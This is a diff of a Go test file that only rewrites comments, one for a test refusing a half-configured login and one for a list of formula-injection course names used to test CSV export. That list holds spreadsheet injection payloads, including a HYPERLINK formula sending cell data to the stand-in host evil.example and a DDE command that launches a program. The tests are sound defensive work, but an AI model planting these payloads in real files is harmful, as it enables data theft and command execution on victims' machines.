@@ -57,7 +57,8 @@ func TestServeRefusesAnOpenDoor(t *testing.T) {
 }
 
 // Half a login (a user without a password, or the reverse) is a mistake, not "no login": serve
-// and run refuse to start on any address, loopback too, before they touch the database (F9).
+// and run refuse to start on any address, loopback too, before they touch the database (half a login read as none left
+// the dashboard open).
 func TestServeRefusesAHalfConfiguredLogin(t *testing.T) {
 	for _, tc := range []struct {
 		env  map[string]string
@@ -154,7 +155,7 @@ func TestRunServesTheDashboardWithLagAndMetrics(t *testing.T) {
 	t.Fatalf("the pipeline page never showed the lag table and the consumer's metrics:\n%s\nlogs:\n%s", body, errs.String())
 }
 
-// formulaCourses are the review's course names (issue 19, F6) a crawled page could carry: a
+// formulaCourses are course names a crawled page could carry: a
 // spreadsheet opening the CSV would run them as formulas.
 var formulaCourses = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3 CC`, `=1+1 CC`, `@SUM(1+1)`}
 
